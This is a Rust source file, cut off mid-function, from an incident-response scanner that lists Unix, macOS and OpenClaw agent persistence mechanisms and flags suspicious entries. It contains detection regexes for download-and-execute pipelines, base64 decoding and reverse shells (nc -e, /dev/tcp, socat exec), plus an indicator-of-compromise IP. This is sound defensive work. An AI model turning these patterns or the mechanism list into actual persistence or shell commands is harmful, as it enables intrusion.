//! `ir persistence`: every mechanism in `field-notes.md` §1 that can bring
//! an attacker back, read under `--root`, plus OpenClaw's own: its
//! supervisor, scheduled jobs, hooks, plugins, skills, MCP servers and the
//! prompt files (SOUL.md, AGENTS.md...) every session reads.
//!
//! Mechanisms are a table of (name, ATT&CK id, locations, parser); a parser
//! turns a file into items (a cron line, a unit's ExecStart, a key in
//! authorized_keys) and the flaggers look at each item's command and file.

use super::window::Window;
use crate::host::Root;
use crate::host::users::{self, User};
use crate::openclaw::{Deployment, config};
use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::collections::{BTreeMap, HashSet};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

/// One thing that runs, or grants a way back in.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct Item {
    pub mechanism: String,
    pub attack: String,
    /// Host path, escaped.
    pub path: String,
    pub owner: Option<u32>,
    pub mode: Option<String>,
    pub mtime: Option<String>,
    pub ctime: Option<String>,
    pub sha256: Option<String>,
    /// The account it runs as, when the mechanism says.
    pub user: Option<String>,
    /// What it runs (escaped), or what it grants.
    pub command: Option<String>,
    pub detail: Option<String>,
    pub flags: Vec<String>,
}

impl Item {
    /// Identity across runs, for baselines.
    pub fn key(&self) -> String {
        format!(
            "{}\u{0}{}\u{0}{}",
            self.mechanism,
            self.path,
            self.command.as_deref().unwrap_or("")
        )
    }
}

/// What a persistence run found.
#[derive(Debug, Clone, Serialize)]
pub struct Report {
    pub items: Vec<Item>,
    pub flagged: usize,
    pub unreadable: Vec<String>,
    /// With a baseline: what changed since.
    pub baseline: Option<Diff>,
}

/// Differences against a saved baseline.
#[derive(Debug, Clone, Serialize, Default)]
pub struct Diff {
    pub added: Vec<Item>,
    pub removed: Vec<Item>,
    pub changed: Vec<Item>,
}

fn re(cell: &'static OnceLock<Regex>, pat: &str) -> &'static Regex {
    cell.get_or_init(|| Regex::new(pat).expect("static regex"))
}

/// Known indicators of compromise (the ClawHub campaign's address...).
pub const IOCS: &[&str] = &["91.92.242.30"];

/// Flags a command or script text raises.
pub fn text_flags(text: &str) -> Vec<&'static str> {
    static TMP: OnceLock<Regex> = OnceLock::new();
    static DL: OnceLock<Regex> = OnceLock::new();
    static B64: OnceLock<Regex> = OnceLock::new();
    static REV: OnceLock<Regex> = OnceLock::new();
    let mut f = Vec::new();
    if re(&TMP, r#"(^|[\s'"=:;(])(/tmp|/var/tmp|/dev/shm)/"#).is_match(text) {
        f.push("runs_from_tmp");
    } else {
        let known = [
            "local",
            "config",
            "nvm",
            "npm-global",
            "npm",
            "cargo",
            "rustup",
            "bun",
            "deno",
            "volta",
            "pyenv",
            "rbenv",
            "openclaw",
            "ssh",
            "cache",
        ];
        // A hidden directory anywhere in a path: `/x/.name/y`.
        let hidden = text
            .split(|c: char| c.is_whitespace() || "'\"=:;()".contains(c))
            .any(|tok| {
                let segs: Vec<&str> = tok.split('/').collect();
                segs.len() > 2
                    && segs[..segs.len() - 1].iter().skip(1).any(|s| {
                        s.len() > 1 && s.starts_with('.') && *s != ".." && !known.contains(&&s[1..])
                    })
            });
        if hidden {
            f.push("runs_from_tmp");
        }
    }
    if re(&DL, r"(?i)\b(curl|wget|fetch)\b[^|;&\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b|\b(curl|wget)\b[^\n]*\s-[oO]\s*\S+[^\n]*(;|&&)\s*(chmod\s+\+?[0-7x]+|\./|sh\s|bash\s)|\b(iwr|invoke-webrequest)\b[^\n]*\|\s*iex").is_match(text) {
        f.push("download_exec");
    }
    if re(&B64, r"(?i)\bbase64\s+(-d|--decode|-D)\b|\bb64decode\b|\bfrombase64string\b|openssl\s+(enc\s+)?-?(base64|a)\s+-d").is_match(text) {
        f.push("base64_decode");
    }
    if re(&REV, r"(?i)/dev/(tcp|udp)/|\bnc(at)?\b[^\n]*\s-[a-z]*e\s|\bsocat\b[^\n]*\bexec:|\bbash\s+-i\b|\bmkfifo\b[^\n]*\bnc\b|\bpython[23]?\s+-c\b[^\n]*\bsocket\b|\bperl\s+-e\b[^\n]*\bsocket\b").is_match(text) {
        f.push("reverse_shell");
    }
    if IOCS.iter().any(|i| text.contains(i)) {
        f.push("ioc");
    }
    f
}

/// Files dpkg says it installed, when its data is readable.
pub fn dpkg_files(root: &Root) -> Option<HashSet<String>> {
    let dir = root.join("/var/lib/dpkg/info");
    let rd = std::fs::read_dir(&dir).ok()?;
    let mut set = HashSet::new();
    for e in rd.flatten().take(100_000) {
        let n = e.file_name();
        if !n.to_string_lossy().ends_with(".list") {
            continue;
        }
        if let Ok(b) = crate::safefs::read_bounded(&e.path(), 64 << 20) {
            for l in String::from_utf8_lossy(&b).lines() {
                set.insert(l.to_string());
            }
        }
    }
    Some(set)
}

struct Ctx<'a> {
    root: &'a Root,
    window: &'a Window,
    dpkg: Option<HashSet<String>>,
    items: Vec<Item>,
    unreadable: Vec<String>,
}

fn fmt_ts(s: i64, n: i64) -> Option<String> {
    crate::evidence::collect::ts(s, n)
}

impl Ctx<'_> {
    /// Builds an item for a file at a local path, with its metadata.
    fn item(&self, mechanism: &str, attack: &str, local: &Path, data: Option<&[u8]>) -> Item {
        let host = self.root.host_view(local);
        let m = crate::safefs::lstat(local).ok().flatten();
        let mut flags: Vec<String> = Vec::new();
        if let Some(m) = &m {
            if self.window.contains(m.mtime(), m.mtime_nsec())
                || self.window.contains(m.ctime(), m.ctime_nsec())
            {
                flags.push("recent".into());
            }
            if m.mode() & 0o002 != 0 && !m.file_type().is_symlink() {
                flags.push("world_writable".into());
            }
        }
        let hs = host.to_string_lossy();
        if let Some(d) = &self.dpkg
            && ["/etc/", "/usr/", "/lib/", "/bin/", "/sbin/"]
                .iter()
                .any(|p| hs.starts_with(p))
            && !d.contains(hs.as_ref())
            && !d.contains(hs.replacen("/usr/", "/", 1).as_str())
        {
            flags.push("unpackaged".into());
        }
        Item {
            mechanism: mechanism.into(),
            attack: attack.into(),
            path: crate::sanitize::escape_path(&host),
            owner: m.as_ref().map(|m| m.uid()),
            mode: m.as_ref().map(|m| format!("{:o}", m.mode() & 0o7777)),
            mtime: m.as_ref().and_then(|m| fmt_ts(m.mtime(), m.mtime_nsec())),
            ctime: m.as_ref().and_then(|m| fmt_ts(m.ctime(), m.ctime_nsec())),
            sha256: data.map(crate::journal::sha256_hex),
            user: None,
            command: None,
            detail: None,
            flags,
        }
    }

    fn push(&mut self, mut it: Item, command: Option<&str>) {
        if let Some(c) = command {
            for f in text_flags(c) {
                if !it.flags.iter().any(|x| x == f) {
                    it.flags.push(f.into());
                }
            }
            // The program it runs being world-writable is as bad as the entry.
            if let Some(prog) = c.split_whitespace().next().filter(|p| p.starts_with('/'))
                && let Ok(Some(m)) = crate::safefs::lstat(&self.root.join(prog))
                && m.mode() & 0o002 != 0
                && !m.file_type().is_symlink()
                && !it.flags.iter().any(|x| x == "world_writable")
            {
                it.flags.push("world_writable".into());
            }
            it.command = Some(crate::sanitize::escape(c.trim()));
        }
        self.items.push(it);
    }

    fn read(&mut self, local: &Path) -> Option<Vec<u8>> {
        match crate::safefs::read_bounded(local, 16 << 20) {
            Ok(b) => Some(b),
            Err(e) if e.is_not_found() => None,
            Err(crate::safefs::ReadError::Symlink(_)) => None,
            Err(e) => {
                self.unreadable.push(e.to_string());
                None
            }
        }
    }

    /// Regular files directly in a dir (or the path itself if a file).
    fn files(&mut self, host_dir: &Path) -> Vec<PathBuf> {
        let local = self.root.join(host_dir);
        match crate::safefs::lstat(&local) {
            Ok(Some(m)) if m.file_type().is_dir() => {
                let mut v: Vec<PathBuf> = match std::fs::read_dir(&local) {
                    Ok(rd) => rd.flatten().take(100_000).map(|e| e.path()).collect(),
                    Err(e) => {
                        self.unreadable.push(format!("{}: {e}", local.display()));
                        Vec::new()
                    }
                };
                v.sort();
                v
            }
            Ok(Some(_)) => vec![local],
            _ => Vec::new(),
        }
    }
}

fn lines(data: &[u8]) -> impl Iterator<Item = &str> {
    std::str::from_utf8(data)
        .unwrap_or("")
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
}

/// Splits a crontab line into (schedule, user, command).
pub fn parse_cron_line(l: &str, has_user: bool) -> Option<(String, Option<String>, String)> {
    if l.split_whitespace()
        .next()
        .is_some_and(|w| w.contains('=') && !w.starts_with('@'))
    {
        return None; // VAR=value
    }
    let mut parts = l.split_whitespace();
    let sched_n = if l.starts_with('@') { 1 } else { 5 };
    let sched: Vec<&str> = parts.by_ref().take(sched_n).collect();
    if sched.len() < sched_n {
        return None;
    }
    let user = if has_user {
        Some(parts.next()?.to_string())
    } else {
        None
    };
    let cmd: Vec<&str> = parts.collect();
    if cmd.is_empty() {
        return None;
    }
    Some((sched.join(" "), user, cmd.join(" ")))
}

fn cron(c: &mut Ctx, host: &str, has_user: bool, spool_user: bool) {
    for f in c.files(Path::new(host)) {
        let Some(data) = c.read(&f) else { continue };
        let user = spool_user
            .then(|| f.file_name().map(|n| n.to_string_lossy().into_owned()))
            .flatten();
        let base = c.item("cron", "T1053.003", &f, Some(&data));
        for l in lines(&data) {
            if let Some((sched, u, cmd)) = parse_cron_line(l, has_user) {
                let mut it = base.clone();
                it.user = u.or_else(|| user.clone());
                it.detail = Some(sched);
                c.push(it, Some(&cmd));
            }
        }
    }
}

/// Whole files that run as scripts (cron.daily, profile.d, rc.local...).
fn scripts(c: &mut Ctx, mech: &str, attack: &str, host: &str) {
    for f in c.files(Path::new(host)) {
        let Some(data) = c.read(&f) else { continue };
        let text = String::from_utf8_lossy(&data).into_owned();
        let it = c.item(mech, attack, &f, Some(&data));
        // The command is the script's first flagged line, if any.
        let bad = text
            .lines()
            .find(|l| !text_flags(l).is_empty())
            .map(str::to_owned);
        c.push(it, bad.as_deref());
    }
}

/// `Key=value` lines of systemd units, desktop files and the like.
fn keyed(c: &mut Ctx, mech: &str, attack: &str, host_dir: &str, suffixes: &[&str], keys: &[&str]) {
    for f in c.files(Path::new(host_dir)) {
        let name = f
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        if !suffixes.iter().any(|s| name.ends_with(s)) {
            // A drop-in dir for a unit: look inside.
            // A unit's drop-in dir (`x.service.d/`) belongs to the pass for its kind.
            let unit = name.strip_suffix(".d").unwrap_or("");
            if !unit.is_empty() && suffixes.iter().any(|s| unit.ends_with(s)) && f.is_dir() {
                keyed(
                    c,
                    mech,
                    attack,
                    &c.root.host_view(&f).to_string_lossy(),
                    &[".conf"],
                    keys,
                );
            } else if (name.ends_with(".wants") || name.ends_with(".requires"))
                && suffixes.contains(&".service")
            {
                for l in c.files(&c.root.host_view(&f)) {
                    let target = std::fs::read_link(&l)
                        .ok()
                        .map(|t| t.to_string_lossy().into_owned());
                    let mut it = c.item("systemd-enablement", "T1543.002", &l, None);
                    it.detail = target;
                    c.push(it, None);
                }
            }
            continue;
        }
        let meta = crate::safefs::lstat(&f).ok().flatten();
        if meta.as_ref().is_some_and(|m| m.file_type().is_symlink()) {
            let mut it = c.item(mech, attack, &f, None);
            it.detail = std::fs::read_link(&f)
                .ok()
                .map(|t| format!("symlink to {}", crate::sanitize::escape_path(&t)));
            c.push(it, None);
            continue;
        }
        let Some(data) = c.read(&f) else { continue };
        let base = c.item(mech, attack, &f, Some(&data));
        let mut any = false;
        for l in lines(&data) {
            if let Some((k, v)) = l.split_once('=')
                && keys.iter().any(|key| k.trim().eq_ignore_ascii_case(key))
            {
                let mut it = base.clone();
                it.detail = Some(k.trim().to_string());
                c.push(it, Some(v.trim().trim_start_matches(['-', '@', '+', '!'])));
                any = true;
            }
        }
        if !any {
            c.push(base, None);
        }
    }
}

/// `AuthorizedKeysFile` patterns from sshd_config and its drop-ins.
fn authorized_keys_patterns(c: &mut Ctx) -> Vec<String> {
    let mut pats = Vec::new();
    let mut files = vec![c.root.join("/etc/ssh/sshd_config")];
    files.extend(c.files(Path::new("/etc/ssh/sshd_config.d")));
    for f in files {
        let Some(data) = c.read(&f) else { continue };
        for l in lines(&data) {
            let mut w = l.split_whitespace();
            if w.next()
                .is_some_and(|k| k.eq_ignore_ascii_case("AuthorizedKeysFile"))
            {
                pats.extend(w.map(str::to_owned));
            }
        }
    }
    if pats.is_empty() {
        pats = vec![
            ".ssh/authorized_keys".into(),
            ".ssh/authorized_keys2".into(),
        ];
    }
    pats
}

fn expand_keys_pattern(p: &str, u: &User) -> String {
    let s = p
        .replace("%%", "\u{0}")
        .replace("%h", &u.home)
        .replace("%u", &u.name)
        .replace("%U", &u.uid.to_string())
        .replace('\u{0}', "%");
    if s.starts_with('/') {
        s
    } else {
        format!("{}/{s}", u.home.trim_end_matches('/'))
    }
}

fn ssh(c: &mut Ctx, all: &[User]) {
    let pats = authorized_keys_patterns(c);
    for u in all {
        if u.home.is_empty() {
            continue;
        }
        for p in &pats {
            let host = expand_keys_pattern(p, u);
            let local = c.root.join(&host);
            let Some(data) = c.read(&local) else { continue };
            let base = c.item("ssh-authorized-keys", "T1098.004", &local, Some(&data));
            for l in lines(&data) {
                let mut it = base.clone();
                it.user = Some(u.name.clone());
                let fields: Vec<&str> = l.split_whitespace().collect();
                let ki = fields.iter().position(|f| {
                    f.starts_with("ssh-") || f.starts_with("ecdsa-") || f.starts_with("sk-")
                });
                let comment = ki.map(|i| fields[i + 2..].join(" ")).unwrap_or_default();
                let options = ki.map(|i| fields[..i].join(" ")).unwrap_or_default();
                it.detail = Some(
                    format!(
                        "{} {}",
                        ki.map(|i| fields[i]).unwrap_or("?"),
                        crate::sanitize::escape(&comment)
                    )
                    .trim()
                    .to_string(),
                );
                // A forced command= is what such a key runs.
                let cmd = options
                    .split("command=\"")
                    .nth(1)
                    .and_then(|r| r.split('"').next())
                    .map(str::to_owned);
                c.push(it, cmd.as_deref());
            }
        }
        let local = c.root.join(Path::new(&u.home).join(".ssh/rc"));
        if let Some(data) = c.read(&local) {
            let it = c.item("ssh-rc", "T1098.004", &local, Some(&data));
            let text = String::from_utf8_lossy(&data).into_owned();
            c.push(it, Some(&text));
        }
    }
    scripts(c, "ssh-rc", "T1098.004", "/etc/ssh/sshrc");
}

fn listed(c: &mut Ctx, mech: &str, attack: &str, host: &str, pick: fn(&str) -> Option<String>) {
    for f in c.files(Path::new(host)) {
        let Some(data) = c.read(&f) else { continue };
        let base = c.item(mech, attack, &f, Some(&data));
        for l in lines(&data) {
            if let Some(cmd) = pick(l) {
                c.push(base.clone(), Some(&cmd));
            }
        }
    }
}

fn openclaw(c: &mut Ctx, dep: &Deployment) {
    let state = &dep.paths.state_dir;
    for s in &dep.runtime.supervisors {
        let data = c.read(&s.path);
        let mut it = c.item("openclaw-supervisor", "T1543.002", &s.path, data.as_deref());
        it.detail = Some(format!(
            "{} {} restart={}{}",
            s.kind,
            s.name,
            s.restart.as_deref().unwrap_or("no"),
            if s.restarts_on_kill {
                " (restarts a killed gateway)"
            } else {
                ""
            }
        ));
        let exec = data
            .as_deref()
            .and_then(|d| lines(d).find_map(|l| l.strip_prefix("ExecStart=").map(str::to_owned)));
        c.push(it, exec.as_deref());
    }
    // Scheduled agent jobs: the legacy file and the SQLite table.
    let legacy = state.join("cron/jobs.json");
    if let Some(data) = c.read(&legacy) {
        let base = c.item("openclaw-cron", "T1053", &legacy, Some(&data));
        if let Ok(v) = serde_json::from_slice::<Value>(&data) {
            for j in v
                .get("jobs")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
            {
                cron_job(c, &base, j);
            }
        }
    }
    let db = state.join("state/openclaw.sqlite");
    if crate::safefs::lstat(&db).ok().flatten().is_some() {
        match crate::sqlite::open_readonly(&db) {
            Ok(conn) if crate::sqlite::has_table(&conn.conn, "cron_jobs") => {
                let base = c.item("openclaw-cron", "T1053", &db, None);
                let rows: Vec<(String, Option<String>, String)> = conn
                    .conn
                    .prepare(
                        "SELECT job_id, declaration_key, job_json FROM cron_jobs ORDER BY rowid",
                    )
                    .and_then(|mut s| {
                        s.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))?
                            .collect()
                    })
                    .unwrap_or_default();
                for (id, decl, json) in rows {
                    let mut j: Value = serde_json::from_str(&json).unwrap_or(Value::Null);
                    if j.get("declarationKey").is_none() && decl.is_some() {
                        j["declarationKey"] = Value::from(decl);
                    }
                    if j.get("id").is_none() {
                        j["id"] = Value::from(id);
                    }
                    cron_job(c, &base, &j);
                }
            }
            Ok(_) => {}
            Err(e) => c.unreadable.push(format!("{}: {e:#}", db.display())),
        }
    }
    // Hooks, plugins and extensions, skills, MCP servers, prompt files.
    let cfg = dep.config.clone().unwrap_or(Value::Null);
    if let Some(h) = config::get(&cfg, "hooks").filter(|h| h.is_object()) {
        let mut it = c.item("openclaw-hooks", "T1546", &dep.paths.config, None);
        let mappings = h
            .get("mappings")
            .and_then(Value::as_array)
            .map_or(0, Vec::len);
        it.detail = Some(format!(
            "hooks enabled={} mappings={mappings} path={}",
            h.get("enabled").unwrap_or(&Value::Null),
            h.get("path").and_then(Value::as_str).unwrap_or("-")
        ));
        c.push(it, None);
    }
    let mut dirs = vec![state.join("extensions"), state.join("hooks")];
    let mut skill_dirs = vec![state.join("skills"), state.join("plugin-skills")];
    let mut prompts = Vec::new();
    for a in &dep.agents {
        if let Some(w) = &a.workspace {
            dirs.push(w.join(".openclaw/extensions"));
            skill_dirs.push(w.join("skills"));
            for f in [
                "SOUL.md",
                "AGENTS.md",
                "MEMORY.md",
                "IDENTITY.md",
                "USER.md",
                "BOOTSTRAP.md",
                "TOOLS.md",
                "HEARTBEAT.md",
            ] {
                prompts.push(w.join(f));
            }
        }
    }
    for d in dirs {
        for e in c.files(&c.root.host_view(&d)) {
            let mech = if d.ends_with("hooks") {
                "openclaw-hooks"
            } else {
                "openclaw-plugin"
            };
            let pkg = c
                .read(&e.join("package.json"))
                .or_else(|| c.read(&e.join("openclaw.plugin.json")));
            let mut it = c.item(mech, "T1546", &e, pkg.as_deref());
            it.detail = pkg
                .and_then(|b| serde_json::from_slice::<Value>(&b).ok())
                .map(|v| {
                    format!(
                        "{} {}",
                        v.get("name").and_then(Value::as_str).unwrap_or("?"),
                        v.get("version").and_then(Value::as_str).unwrap_or("")
                    )
                });
            c.push(it, None);
        }
    }
    if let Some(Value::Object(p)) = config::get(&cfg, "plugins.entries") {
        for (name, v) in p {
            let mut it = c.item("openclaw-plugin", "T1546", &dep.paths.config, None);
            it.detail = Some(format!(
                "plugins.entries.{} enabled={}",
                crate::sanitize::escape(name),
                v.get("enabled").unwrap_or(&Value::Bool(true))
            ));
            c.items.push(it);
        }
    }
    for d in skill_dirs {
        let walker = walkdir::WalkDir::new(&d)
            .follow_links(false)
            .max_depth(4)
            .into_iter()
            .flatten();
        for e in walker.filter(|e| e.file_name() == "SKILL.md") {
            let Some(data) = c.read(e.path()) else {
                continue;
            };
            let text = String::from_utf8_lossy(&data).into_owned();
            let mut it = c.item("openclaw-skill", "T1546", e.path(), Some(&data));
            static BLOB: OnceLock<Regex> = OnceLock::new();
            if re(&BLOB, r"[A-Za-z0-9+/]{60,}={0,2}").is_match(&text)
                && !it.flags.iter().any(|f| f == "base64_decode")
            {
                it.flags.push("base64_blob".into());
            }
            it.detail = text
                .lines()
                .find_map(|l| l.strip_prefix("name:"))
                .map(|n| n.trim().to_string());
            let bad = text
                .lines()
                .find(|l| !text_flags(l).is_empty())
                .map(str::to_owned);
            c.push(it, bad.as_deref());
        }
    }
    for key in ["mcp.servers", "nodeHost.mcp.servers"] {
        if let Some(Value::Object(servers)) = config::get(&cfg, key) {
            for (name, s) in servers {
                let mut it = c.item("openclaw-mcp-server", "T1546", &dep.paths.config, None);
                it.detail = Some(format!("{key}.{}", crate::sanitize::escape(name)));
                let cmd = match (
                    s.get("command").and_then(Value::as_str),
                    s.get("url").and_then(Value::as_str),
                ) {
                    (Some(cmd), _) => {
                        let args: Vec<&str> = s
                            .get("args")
                            .and_then(Value::as_array)
                            .map(|a| a.iter().filter_map(Value::as_str).collect())
                            .unwrap_or_default();
                        format!("{cmd} {}", args.join(" "))
                    }
                    (None, Some(u)) => u.to_string(),
                    _ => String::new(),
                };
                c.push(it, Some(&cmd));
            }
        }
    }
    for p in prompts {
        let Some(data) = c.read(&p) else { continue };
        let text = String::from_utf8_lossy(&data).into_owned();
        let it = c.item("openclaw-prompt-file", "T1546", &p, Some(&data));
        let bad = text
            .lines()
            .find(|l| !text_flags(l).is_empty())
            .map(str::to_owned);
        c.push(it, bad.as_deref());
    }
}

fn cron_job(c: &mut Ctx, base: &Item, j: &Value) {
    let mut it = base.clone();
    let name = j.get("name").and_then(Value::as_str).unwrap_or("?");
    let decl = j.get("declarationKey").and_then(Value::as_str);
    it.user = j
        .get("agentId")
        .and_then(Value::as_str)
        .map(|a| format!("agent:{a}"));
    it.detail = Some(format!(
        "{} ({}) {}",
        crate::sanitize::escape(name),
        j.get("id").and_then(Value::as_str).unwrap_or("?"),
        decl.map_or("no declarationKey".to_string(), |d| format!(
            "declared by {d}"
        ))
    ));
    if decl.is_none() {
        it.flags.push("undeclared".into());
    }
    let payload = j.get("payload").map(|p| {
        p.get("message")
            .and_then(Value::as_str)
            .map(str::to_owned)
            .unwrap_or_else(|| p.to_string())
    });
    c.push(it, payload.as_deref());
}

/// Enumerates every mechanism.
pub fn run(dep: Option<&Deployment>, root: &Root, window: &Window) -> Report {
    let mut c = Ctx {
        root,
        window,
        dpkg: dpkg_files(root),
        items: Vec::new(),
        unreadable: Vec::new(),
    };
    let all = users::users(root);
    // Scheduled jobs.
    cron(&mut c, "/etc/crontab", true, false);
    cron(&mut c, "/etc/cron.d", true, false);
    cron(&mut c, "/var/spool/cron/crontabs", false, true);
    for f in c.files(Path::new("/var/spool/cron")) {
        if f.is_file() {
            let h = root.host_view(&f).to_string_lossy().into_owned();
            cron(&mut c, &h, false, true);
        }
    }
    cron(&mut c, "/usr/lib/cron/tabs", false, true);
    for d in [
        "/etc/cron.hourly",
        "/etc/cron.daily",
        "/etc/cron.weekly",
        "/etc/cron.monthly",
    ] {
        scripts(&mut c, "cron-periodic", "T1053.003", d);
    }
    listed(&mut c, "anacron", "T1053.003", "/etc/anacrontab", |l| {
        let f: Vec<&str> = l.split_whitespace().collect();
        (f.len() >= 4 && !f[0].contains('=')).then(|| f[3..].join(" "))
    });
    for d in ["/var/spool/cron/atjobs", "/var/spool/at"] {
        scripts(&mut c, "at", "T1053.002", d);
    }
    // systemd, system and user, with drop-ins, .wants links and generators.
    let unit_keys = [
        "ExecStart",
        "ExecStartPre",
        "ExecStartPost",
        "ExecStop",
        "ExecStopPost",
        "ExecReload",
        "ExecCondition",
    ];
    let mut unit_dirs: Vec<String> = [
        "/etc/systemd/system",
        "/run/systemd/system",
        "/run/systemd/transient",
        "/usr/local/lib/systemd/system",
        "/usr/lib/systemd/system",
        "/etc/systemd/user",
        "/usr/lib/systemd/user",
        "/usr/local/lib/systemd/user",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    for u in &all {
        for rel in [".config/systemd/user", ".local/share/systemd/user"] {
            unit_dirs.push(format!("{}/{rel}", u.home.trim_end_matches('/')));
        }
    }
    for d in &unit_dirs {
        keyed(
            &mut c,
            "systemd-service",
            "T1543.002",
            d,
            &[".service", ".socket", ".path", ".mount"],
            &unit_keys,
        );
        keyed(
            &mut c,
            "systemd-timer",
            "T1053.006",
            d,
            &[".timer"],
            &["OnCalendar", "OnBootSec", "OnUnitActiveSec", "Unit"],
        );
    }
    for d in [
        "/etc/systemd/system-generators",
        "/etc/systemd/user-generators",
        "/usr/local/lib/systemd/system-generators",
        "/usr/local/lib/systemd/user-generators",
        "/usr/lib/systemd/system-generators",
        "/usr/lib/systemd/user-generators",
        "/run/systemd/generator",
        "/run/systemd/generator.early",
        "/run/systemd/generator.late",
    ] {
        scripts(&mut c, "systemd-generator", "T1543.002", d);
    }
    for f in c.files(Path::new("/var/lib/systemd/linger")) {
        let mut it = c.item("systemd-linger", "T1543.002", &f, None);
        it.user = f.file_name().map(|n| n.to_string_lossy().into_owned());
        c.push(it, None);
    }
    // Login: XDG autostart and shell rc files of every user.
    let mut autostart = vec![
        "/etc/xdg/autostart".to_string(),
        "/usr/share/autostart".to_string(),
    ];
    for u in &all {
        autostart.push(format!(
            "{}/.config/autostart",
            u.home.trim_end_matches('/')
        ));
    }
    for d in &autostart {
        keyed(
            &mut c,
            "xdg-autostart",
            "T1547.013",
            d,
            &[".desktop"],
            &["Exec"],
        );
    }
    for p in [
        "/etc/profile",
        "/etc/profile.d",
        "/etc/bash.bashrc",
        "/etc/bashrc",
        "/etc/environment",
        "/etc/zsh",
        "/etc/zshrc",
        "/etc/zprofile",
        "/etc/zshenv",
    ] {
        scripts(&mut c, "shell-rc", "T1546.004", p);
    }
    for u in &all {
        if u.home.is_empty() || u.home == "/" {
            continue;
        }
        for rel in crate::evidence::scope::USER_SHELL_RC {
            let h = format!("{}/{rel}", u.home.trim_end_matches('/'));
            scripts(&mut c, "shell-rc", "T1546.004", &h);
        }
    }
    ssh(&mut c, &all);
    // Boot and loading.
    listed(
        &mut c,
        "ld-preload",
        "T1574.006",
        "/etc/ld.so.preload",
        |l| Some(l.to_string()),
    );
    scripts(&mut c, "ld-so-conf", "T1574.006", "/etc/ld.so.conf.d");
    for p in [
        "/etc/rc.local",
        "/etc/rc.d/rc.local",
        "/etc/init.d",
        "/etc/update-motd.d",
        "/etc/inittab",
    ] {
        scripts(&mut c, "rc-init", "T1037.004", p);
    }
    for d in [
        "/etc/udev/rules.d",
        "/usr/lib/udev/rules.d",
        "/run/udev/rules.d",
    ] {
        listed(&mut c, "udev-rule", "T1546.017", d, |l| {
            l.split(',').map(str::trim).find_map(|kv| {
                kv.strip_prefix("RUN+=")
                    .or_else(|| kv.strip_prefix("RUN="))
                    .map(|v| v.trim_matches('"').to_string())
            })
        });
    }
    listed(&mut c, "kernel-module", "T1547.006", "/etc/modules", |l| {
        Some(l.to_string())
    });
    listed(
        &mut c,
        "kernel-module",
        "T1547.006",
        "/etc/modules-load.d",
        |l| Some(l.to_string()),
    );
    listed(
        &mut c,
        "kernel-module",
        "T1547.006",
        "/etc/modprobe.d",
        |l| l.strip_prefix("install ").map(str::to_owned),
    );
    // Privilege and accounts.
    listed(&mut c, "pam-exec", "T1556.003", "/etc/pam.d", |l| {
        l.contains("pam_exec.so").then(|| l.to_string())
    });
    for p in ["/etc/sudoers", "/etc/sudoers.d"] {
        for f in c.files(Path::new(p)) {
            let Some(data) = c.read(&f) else { continue };
            let base = c.item("sudoers", "T1548.003", &f, Some(&data));
            for l in lines(&data).filter(|l| {
                !l.starts_with("Defaults") && !l.starts_with("@include") && l.contains('=')
            }) {
                let mut it = base.clone();
                if l.contains("NOPASSWD") {
                    it.flags.push("nopasswd".into());
                }
                it.detail = Some(crate::sanitize::escape(l));
                c.items.push(it);
            }
        }
    }
    let passwd = root.join("/etc/passwd");
    for u in all.iter().filter(|u| u.uid == 0 && u.name != "root") {
        let mut it = c.item("uid0-account", "T1136.001", &passwd, None);
        it.user = Some(u.name.clone());
        it.flags.push("uid0".into());
        it.detail = Some(format!(
            "{} has uid 0 (home {}, shell {})",
            u.name, u.home, u.shell
        ));
        c.items.push(it);
    }
    // Package manager hooks.
    listed(
        &mut c,
        "apt-hook",
        "T1546.016",
        "/etc/apt/apt.conf.d",
        |l| {
            (l.contains("Pre-Invoke")
                || l.contains("Post-Invoke")
                || l.contains("Post-Invoke-Success"))
            .then(|| {
                l.split_once('"')
                    .map_or(l, |(_, r)| r.trim_end_matches([';', '}', '"', ' ']))
                    .to_string()
            })
        },
    );
    for d in ["/etc/dnf/plugins", "/etc/yum/pluginconf.d"] {
        scripts(&mut c, "dnf-plugin", "T1546.016", d);
    }
    // macOS.
    let mut launch = vec![
        "/Library/LaunchAgents".to_string(),
        "/Library/LaunchDaemons".to_string(),
    ];
    for u in &all {
        launch.push(format!(
            "{}/Library/LaunchAgents",
            u.home.trim_end_matches('/')
        ));
    }
    for d in &launch {
        for f in c.files(Path::new(d)) {
            let Some(data) = c.read(&f) else { continue };
            let text = String::from_utf8_lossy(&data).into_owned();
            let mech = if d.contains("Daemons") {
                "launch-daemon"
            } else {
                "launch-agent"
            };
            let it = c.item(
                mech,
                if mech == "launch-daemon" {
                    "T1543.004"
                } else {
                    "T1543.001"
                },
                &f,
                Some(&data),
            );
            c.push(it, Some(&plist_program(&text)));
        }
    }
    for d in [
        "/etc/periodic/daily",
        "/etc/periodic/weekly",
        "/etc/periodic/monthly",
        "/etc/emond.d/rules",
    ] {
        scripts(&mut c, "macos-periodic", "T1053.003", d);
    }
    // Login items: binary stores, listed (with their hashes) for the analyst.
    let mut login = vec!["/private/var/db/com.apple.backgroundtaskmanagement".to_string()];
    for u in &all {
        let h = u.home.trim_end_matches('/');
        login.push(format!(
            "{h}/Library/Application Support/com.apple.backgroundtaskmanagementagent"
        ));
        login.push(format!(
            "{h}/Library/Preferences/com.apple.loginitems.plist"
        ));
    }
    for d in &login {
        scripts(&mut c, "macos-login-item", "T1547.015", d);
    }
    if let Some(dep) = dep {
        openclaw(&mut c, dep);
    }
    c.items.retain(|i| !i.path.is_empty());
    let flagged = c.items.iter().filter(|i| !i.flags.is_empty()).count();
    Report {
        items: c.items,
        flagged,
        unreadable: c.unreadable,
        baseline: None,
    }
}

/// The program a launchd plist runs (`Program` or `ProgramArguments`).
pub fn plist_program(text: &str) -> String {
    let flat: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
    let strings = |after: &str| -> Vec<String> {
        flat.split(after)
            .nth(1)
            .map(|rest| {
                let end = rest.find("</array>").unwrap_or(rest.len().min(4096));
                rest[..end]
                    .split("<string>")
                    .skip(1)
